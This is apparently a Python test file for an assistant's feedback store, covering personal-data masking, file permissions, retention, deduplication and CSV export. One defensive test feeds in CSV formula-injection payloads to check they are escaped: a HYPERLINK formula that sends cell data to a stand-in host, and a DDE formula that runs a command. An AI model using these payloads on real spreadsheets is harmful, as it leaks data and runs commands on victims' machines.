"""Feedback storage: concurrent writers lose nothing; export is CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from multiprocessing import get_context
from pathlib import Path
from typing import Any

import pytest

from assistant.app.feedback import FeedbackStore, feedback_path


def _write_many(args: tuple[str, int]) -> None:
    path, worker = args
    store = FeedbackStore(Path(path))
    for i in range(40):
        store.add(
            question=f"q{worker}-{i}", answer="a", citations=["notice-3-4"], rating=1, comment="", session=str(worker)
        )


def test_concurrent_threads_and_processes_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "feedback.sqlite3"
    FeedbackStore(path)
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(_write_many, [(str(path), w) for w in range(8)]))
    with get_context("spawn").Pool(4) as procs:  # several web workers on one file
        procs.map(_write_many, [(str(path), w) for w in range(8, 12)])
    store = FeedbackStore(path)
    assert store.count() == 12 * 40
    assert len({r["question"] for r in store.rows()}) == 12 * 40


def test_rating_is_checked_and_comment_bounded(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "f.sqlite3")
    with pytest.raises(ValueError, match="rating"):
        store.add(question="q", answer="a", citations=[], rating=0, comment="", session="s")
    store.add(question="q", answer="a", citations=[], rating=-1, comment="x" * 5000, session="s")
    assert len(store.rows()[0]["comment"]) == 2000


def test_export_csv_cli(tmp_path: Path) -> None:
    store = FeedbackStore(feedback_path(tmp_path))
    store.add(
        question="咨询电话是多少？",
        answer="010—88828948",
        citations=["notice-3-4"],
        rating=1,
        comment="好",
        session="s1",
    )
    buf = io.StringIO()
    assert store.export_csv(buf) == 1
    out = tmp_path / "fb.csv"
    env = {**os.environ, "ASSISTANT_DATA_DIR": str(tmp_path), "HF_HUB_OFFLINE": "1"}
    proc = subprocess.run(
        [sys.executable, "-m", "assistant", "feedback", "export", "--out", str(out)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[0]["question"] == "咨询电话是多少？" and rows[0]["rating"] == "1" and rows[0]["comment"] == "好"
    assert json.loads(rows[0]["citations"]) == ["notice-3-4"]


# ---- security review: personal data, file modes, retention, duplicates, CSV formulas, summary ----

PII_QUESTION = (
    "我身份证110101199001011234，手机+86 138 1234 5678，座机010-62345678，邮箱zhang.san@example.com，能报吗？"
)
RAW = ["110101199001011234", "1234 5678", "62345678", "zhang.san@example.com"]


def _add(store: FeedbackStore, **kw: object) -> int:
    row: dict[str, object] = {
        "question": "咨询电话是多少？",
        "answer": "咨询电话：010—88828948，010—88827905[1]。",
        "citations": ["notice-3-4"],
        "rating": 1,
        "comment": "",
        "session": "s1",
    }
    row.update(kw)
    return store.add(**row)  # type: ignore[arg-type]


def test_personal_data_is_masked_before_it_is_stored(tmp_path: Path) -> None:
    path = tmp_path / "feedback.sqlite3"
    store = FeedbackStore(path, helplines=["010—88828948", "010—88827905"])  # as `serve` passes the round's
    _add(store, question=PII_QUESTION, comment="回电13912345678 或 11010519491231002X", rating=-1)
    (row,) = store.rows()
    assert row["question"] == "我身份证[身份证号]，手机[电话]，座机[电话]，邮箱[邮箱]，能报吗？"
    assert row["comment"] == "回电[电话] 或 [身份证号]"
    assert "010—88828948" in row["answer"] and "010—88827905" in row["answer"]  # the helplines stay
    on_disk = b"".join(p.read_bytes() for p in tmp_path.iterdir())
    for raw in [*RAW, "13912345678", "11010519491231002X"]:
        assert raw.encode() not in on_disk


def test_rows_stored_before_masking_are_masked_when_the_store_opens(tmp_path: Path) -> None:
    path = tmp_path / "feedback.sqlite3"
    db = sqlite3.connect(path)  # the table as the previous version made it, with a raw row
    db.execute(
        "CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, session TEXT NOT NULL,"
        " question TEXT NOT NULL, answer TEXT NOT NULL, citations TEXT NOT NULL,"
        " rating INTEGER NOT NULL CHECK (rating IN (-1, 1)), comment TEXT NOT NULL DEFAULT '')"
    )
    now = dt.datetime.now(dt.UTC).isoformat(timespec="seconds")
    db.execute("INSERT INTO feedback VALUES (NULL, ?, 's', ?, 'a', '[]', -1, 'call 13812345678')", (now, PII_QUESTION))
    db.commit()
    db.close()
    store = FeedbackStore(path)
    (row,) = store.rows()
    assert row["question"].startswith("我身份证[身份证号]") and row["comment"] == "call [电话]"
    assert row["message"] == "" and row["abstained"] == 0
    _add(store)
    assert store.count() == 2


def test_database_wal_and_folder_are_owner_only(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    path = feedback_path(folder)
    path.touch(mode=0o644)  # a database left world-readable by the previous version
    os.chmod(path, 0o644)
    store = FeedbackStore(path)
    reader = sqlite3.connect(path)  # an open connection keeps -wal and -shm on disk
    try:
        reader.execute("SELECT COUNT(*) FROM feedback").fetchone()
        _add(store, question=PII_QUESTION)
        files = [path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")]
        assert all(p.exists() for p in files)
        assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}
    finally:
        reader.close()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def _export(tmp_path: Path, out: Path) -> Any:
    from click.testing import CliRunner

    from assistant.app.cli import cli

    return CliRunner().invoke(
        cli, ["feedback", "export", "--out", str(out)], env={"ASSISTANT_DATA_DIR": str(tmp_path / "data")}
    )


def test_export_file_is_owner_only(tmp_path: Path) -> None:
    _add(FeedbackStore(feedback_path(tmp_path / "data")))
    out = tmp_path / "fb.csv"
    out.write_text("old, world-readable\n")
    os.chmod(out, 0o644)
    result = _export(tmp_path, out)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 1


def test_export_to_a_missing_folder_is_a_one_line_usage_error(tmp_path: Path) -> None:
    result = _export(tmp_path, tmp_path / "nope" / "fb.csv")
    assert result.exit_code == 2
    errors = [line for line in result.output.splitlines() if "folder does not exist" in line]
    assert errors == [f"Error: --out: folder does not exist: {tmp_path / 'nope'}"]
    assert not (tmp_path / "nope").exists()


def _age(path: Path, days: int) -> None:
    """Make every row ``days`` old."""
    then = (dt.datetime.now(dt.UTC) - dt.timedelta(days=days)).isoformat(timespec="seconds")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE feedback SET created_at = ?", (then,))
    db.close()


def test_rows_older_than_the_retention_are_deleted(tmp_path: Path) -> None:
    path = tmp_path / "feedback.sqlite3"
    store = FeedbackStore(path)  # default: keep 180 days
    assert store.keep_days == 180
    _add(store)
    now = dt.datetime.now(dt.UTC)
    assert store.purge(now + dt.timedelta(days=179)) == 0 and store.count() == 1
    assert store.purge(now + dt.timedelta(days=181)) == 1 and store.count() == 0

    _add(store)
    _age(path, 40)
    assert FeedbackStore(path, keep_days=None).count() == 1  # None keeps every row
    assert FeedbackStore(path, keep_days=60).count() == 1
    assert FeedbackStore(path, keep_days=30).count() == 0  # deleted when the store opens

    _add(store, session="old")
    _age(path, 200)
    _add(store, session="new")  # every rating also deletes what has expired
    assert [r["session"] for r in store.rows()] == ["new"]
    with pytest.raises(ValueError, match="keep_days"):
        FeedbackStore(path, keep_days=0)


def test_rating_one_answer_again_replaces_the_row(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    ids = {_add(store, message="a1", rating=1 if i % 2 else -1, comment=f"c{i}") for i in range(50)}
    assert store.count() == 1 and len(ids) == 1
    (row,) = store.rows()
    assert (row["message"], row["rating"], row["comment"]) == ("a1", 1, "c49")  # the latest
    _add(store, message="a2")  # another answer in the session
    _add(store, message="a1", session="s2")  # the same id in another session
    assert store.count() == 3
    for _ in range(10):  # no id given: the same question and answer in a session are one message
        _add(store, session="s3", rating=-1, comment="again")
    assert store.count() == 4
    with pytest.raises(ValueError, match="message"):
        _add(store, message="x" * 65)


def test_csv_export_escapes_formula_cells(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    cells = [
        '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ]
    for i, cell in enumerate(cells):
        _add(store, question=cell, comment=cell, rating=-1, session=str(i))
    buf = io.StringIO()
    store.export_csv(buf)
    buf.seek(0)
    rows = list(csv.DictReader(buf))
    assert [r["question"] for r in rows] == ["'" + c for c in cells]
    assert [r["comment"] for r in rows] == ["'" + c for c in cells]
    assert {r["rating"] for r in rows} == {"-1"}  # numbers stay numbers
    assert rows[0]["answer"].startswith("咨询电话")


def test_summary_groups_unanswered_and_disliked_questions(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    _add(store, question="能用手机13812345678报名吗？", rating=-1, comment="答非所问", session="a", abstained=True)
    _add(store, question="这个问题答得好", rating=1, session="b")  # 👍 and answered: not for the helpline
    _add(store, question="能用手机 13912345678 报名吗", rating=1, session="c", abstained=True)
    _add(store, question="评审费多少钱?", rating=-1, session="d")
    _add(store, question="能用手机13700000000报名吗?", rating=-1, comment="", session="e")
    topics = store.summary()
    assert [(t.question, t.count, t.abstained, t.disliked) for t in topics] == [
        ("能用手机[电话]报名吗?", 3, 2, 2),  # newest group first, shown in its newest wording
        ("评审费多少钱?", 1, 0, 1),
    ]
    assert topics[0].comments == ("答非所问",)
    assert topics[0].last_at >= topics[1].last_at
    assert len(store.summary(limit=1)) == 1
